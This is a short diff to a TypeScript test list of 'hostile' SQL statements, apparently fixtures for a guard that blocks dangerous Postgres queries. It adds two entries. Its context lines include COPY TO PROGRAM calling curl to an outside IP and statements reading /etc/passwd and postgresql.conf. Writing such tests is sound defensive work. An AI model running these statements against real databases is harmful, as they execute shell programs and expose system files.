@@ -57,6 +57,8 @@ export const hostileStatements: readonly HostileStatement[] = [
   { name: 'copies a query to a program', sql: `copy (select 1) to program 'curl http://203.0.113.1/'` },
   { name: 'copies from a file', sql: `copy public.notes from '/etc/passwd'` },
   { name: 'copies to the client', sql: 'copy public.people to stdout' },
+  { name: 'copies what it may read to the client', sql: 'copy public.notes to stdout' },
+  { name: 'asks for parameters', sql: 'select $1::text' },
   { name: 'copies from the client', sql: 'copy public.notes from stdin' },
   { name: 'reads a file', sql: `select pg_read_file('/etc/passwd')` },
   { name: 'reads a file’s bytes', sql: `select pg_read_binary_file('postgresql.conf')` },
